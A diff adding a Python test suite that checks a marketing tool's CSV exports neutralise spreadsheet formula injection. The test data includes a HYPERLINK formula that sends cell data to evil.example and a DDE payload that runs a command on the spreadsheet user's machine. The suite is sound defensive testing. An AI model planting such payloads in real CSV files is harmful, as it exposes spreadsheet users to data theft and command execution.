@@ -1,0 +1,207 @@
+"""CSV files end to end with the real binaries: every CSV the project
+writes (stats by channel and by promoter from the CLI and the admin
+download, channel list, qr list, qr batch's index.csv) keeps hostile text
+from becoming a spreadsheet formula while numbers stay numbers, and
+`channel list --format csv` reads back through `channel import` unchanged.
+"""
+import csv
+import datetime
+import io
+import os
+import re
+import sys
+import unittest
+import zoneinfo
+
+import wxs
+
+sys.path.insert(0, os.path.join(wxs.SRC, "tests", "fakes"))
+import fake_wechat  # noqa: E402
+
+AUTH = {"Authorization": "Bearer admintoken"}
+SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
+FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+# Texts a marketer or a hostile push may put into a cell (OWASP's examples).
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+DDE = "+cmd|' /C calc'!A0"
+SUM = "@SUM(1+1)"
+
+
+def t(day, hms="12:00:00"):
+    d = datetime.datetime.fromisoformat(f"{day}T{hms}").replace(tzinfo=SHANGHAI)
+    return int(d.timestamp())
+
+
+def guarded(text):
+    """What the writer makes of a text that would start a formula."""
+    return "'" + text
+
+
+class CsvAsserts:
+    def rows(self, text):
+        return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+
+    def assert_no_formula(self, text):
+        """No cell of the file starts a formula; only plain numbers may
+        start with a minus sign."""
+        for n, row in enumerate(self.rows(text), 1):
+            for cell in row:
+                if cell.startswith(FORMULA_LEAD) and not NUMBER.fullmatch(cell):
+                    self.fail(f"line {n}: cell {cell!r} starts a formula:\n{text}")
+
+    def by_first(self, text):
+        return {r[0]: r for r in self.rows(text)[1:]}
+
+
+class StatsCsvTest(CsvAsserts, unittest.TestCase):
+    """Hostile channel fields from the CLI and hostile scenes in signed
+    pushes, through stats --format csv and the admin CSV download."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.env = e = wxs.Env()
+        e.cli("channel", "add", "hl", "--name", HYPERLINK, "--promoter", DDE,
+              "--reply", "-2+3", "--scan-reply", SUM, "--tag", "@tag")
+        e.cli("channel", "add", "neg", "--name", "Neg", "--promoter", "-Li")
+        e.start_server()
+        pushes = [
+            # neg: a fan from before the range leaves inside it: net_fans -1
+            ("oNeg", t("2026-10-01"), "subscribe", "qrscene_neg"),
+            ("oNeg", t("2026-10-05"), "unsubscribe", None),
+            ("oHl", t("2026-10-05"), "subscribe", "qrscene_hl"),
+            # scenes without a channel row, straight from WeChat's EventKey
+            ("oSum", t("2026-10-05"), "SCAN", SUM),
+            ("oEq", t("2026-10-05"), "subscribe", "qrscene_=1+1"),
+            ("oMinus", t("2026-10-06"), "SCAN", "-2+3"),
+        ]
+        for openid, when, event, key in pushes:
+            r = e.push(wxs.event_xml(openid, when, event, key))
+            assert r.status == 200, r
+
+    @classmethod
+    def tearDownClass(cls):
+        rc = cls.env.stop_server()
+        cls.env.cleanup()
+        assert rc == 0, rc
+
+    RANGE = ("--since", "2026-10-05", "--until", "2026-10-06")
+
+    def stats_csv(self, by):
+        return self.env.cli("stats", "--by", by, "--format", "csv", *self.RANGE).stdout
+
+    def admin_csv(self, by):
+        r = wxs.request(self.env.admin_port, "GET",
+                        f"/api/stats?since=2026-10-05&until=2026-10-06&by={by}&format=csv", headers=AUTH)
+        self.assertEqual(r.status, 200, r)
+        return r.body.decode("utf-8")
+
+    def test_by_channel(self):
+        text = self.stats_csv("channel")
+        self.assert_no_formula(text)
+        rows = self.by_first(text)
+        header = self.rows(text)[0]
+        self.assertEqual(rows["hl"][:3], ["hl", guarded(HYPERLINK), guarded(DDE)])
+        for scene in (SUM, "=1+1", "-2+3"):
+            self.assertIn(guarded(scene), rows, f"the pushed scene {scene!r}")
+        neg = dict(zip(header, rows["neg"]))
+        self.assertEqual((neg["promoter"], neg["unsubscribes"], neg["net_fans"]), ("'-Li", "1", "-1"))
+        self.assertNotIn('"-1"', text, "net_fans is written as a number")
+
+    def test_by_promoter(self):
+        text = self.stats_csv("promoter")
+        self.assert_no_formula(text)
+        rows = self.by_first(text)
+        header = self.rows(text)[0]
+        self.assertIn(guarded(DDE), rows)
+        li = dict(zip(header, rows["'-Li"]))
+        self.assertEqual(li["net_fans"], "-1")
+
+    def test_admin_download_is_the_cli_csv(self):
+        for by in ("channel", "promoter", "day"):
+            with self.subTest(by=by):
+                text = self.admin_csv(by)
+                self.assert_no_formula(text)
+                # the CLI's output is read as text: its CRLF arrives as LF
+                self.assertEqual(text.replace("\r\n", "\n"), self.stats_csv(by))
+        self.assertIn(guarded(HYPERLINK), self.by_first(self.admin_csv("channel"))["hl"])
+
+    def test_channel_list(self):
+        text = self.env.cli("channel", "list", "--format", "csv").stdout
+        self.assert_no_formula(text)
+        self.assertEqual(self.by_first(text)["hl"],
+                         ["hl", guarded(HYPERLINK), guarded(DDE), "'-2+3", guarded(SUM), "'@tag"])
+
+
+class RoundTripTest(CsvAsserts, unittest.TestCase):
+    """channel list --format csv, then channel import of that file into an
+    empty store: the same channels, byte for byte (README "CSV files")."""
+
+    CHANNELS = [
+        ("hl", HYPERLINK, DDE, "-2+3", SUM, "@tag"),
+        ("-5", "'=already quoted", "''@two quotes", "line 1\nline 2", " =1+1", None),
+        ("plain", "门店, \"42\"", "Li", "'just a quote", None, "t1"),
+        ("semi", "a;=1+1", "\t=tab", "=1+1\n=2+2", None, None),
+    ]
+
+    def setUp(self):
+        self.src, self.dst = wxs.Env(), wxs.Env()
+        self.addCleanup(self.src.cleanup)
+        self.addCleanup(self.dst.cleanup)
+
+    def channels(self, env):
+        return env.sql("SELECT scene, name, promoter, reply, scan_reply, tag FROM channels ORDER BY scene")
+
+    def test_list_then_import_gives_the_same_channels(self):
+        for scene, name, promoter, reply, scan_reply, tag in self.CHANNELS:
+            args = ["channel", "add", "--name", name, "--promoter", promoter, "--reply", reply]
+            args += ["--scan-reply", scan_reply] if scan_reply else []
+            args += ["--tag", tag] if tag else []
+            self.src.cli(*args, "--", scene)
+        text = self.src.cli("channel", "list", "--format", "csv").stdout
+        self.assert_no_formula(text)
+        path = os.path.join(self.dst.dir, "list.csv")
+        with open(path, "w", encoding="utf-8", newline="") as f:
+            f.write(text)
+        p = self.dst.cli("channel", "import", path)
+        self.assertIn(f"imported {len(self.CHANNELS)} channels", p.stdout)
+        self.assertEqual(self.channels(self.dst), self.channels(self.src))
+
+
+class QrCsvTest(CsvAsserts, unittest.TestCase):
+    """qr batch's index.csv and qr list --format csv, against the fake
+    WeChat API."""
+
+    def setUp(self):
+        self.fake = fake_wechat.Fake(appid="wx0123456789abcdef",
+                                     secret="0123456789abcdef0123456789abcdef").start()
+        self.addCleanup(self.fake.stop)
+        self.env = wxs.Env()
+        self.addCleanup(self.env.cleanup)
+        self.env.write_config(wechat={"appid": "wx0123456789abcdef",
+                                      "appsecret": "0123456789abcdef0123456789abcdef",
+                                      "api_base": self.fake.url, "mp_base": self.fake.url})
+
+    def test_batch_index_and_list(self):
+        path = os.path.join(self.env.dir, "batch.csv")
+        with open(path, "w", newline="", encoding="utf-8") as f:
+            w = csv.writer(f)
+            w.writerow(["scene", "name", "promoter", "kind", "expire"])
+            w.writerow(["=x", HYPERLINK, DDE, "temp", "7d"])
+            w.writerow(["7", SUM, "-Li", "temp", "1d"])
+        out = os.path.join(self.env.dir, "out")
+        self.env.cli("qr", "batch", path, "--out", out)
+        with open(os.path.join(out, "index.csv"), encoding="utf-8", newline="") as f:
+            index = f.read()
+        self.assert_no_formula(index)
+        rows = self.by_first(index)
+        self.assertEqual(rows["'=x"][1:3], [guarded(HYPERLINK), guarded(DDE)])
+        self.assertEqual(rows["7"][1:3], [guarded(SUM), "'-Li"])
+        listed = self.env.cli("qr", "list", "--format", "csv").stdout
+        self.assert_no_formula(listed)
+        self.assertEqual(self.by_first(listed)["7"][3], guarded(SUM))
+
+
+if __name__ == "__main__":
+    unittest.main()
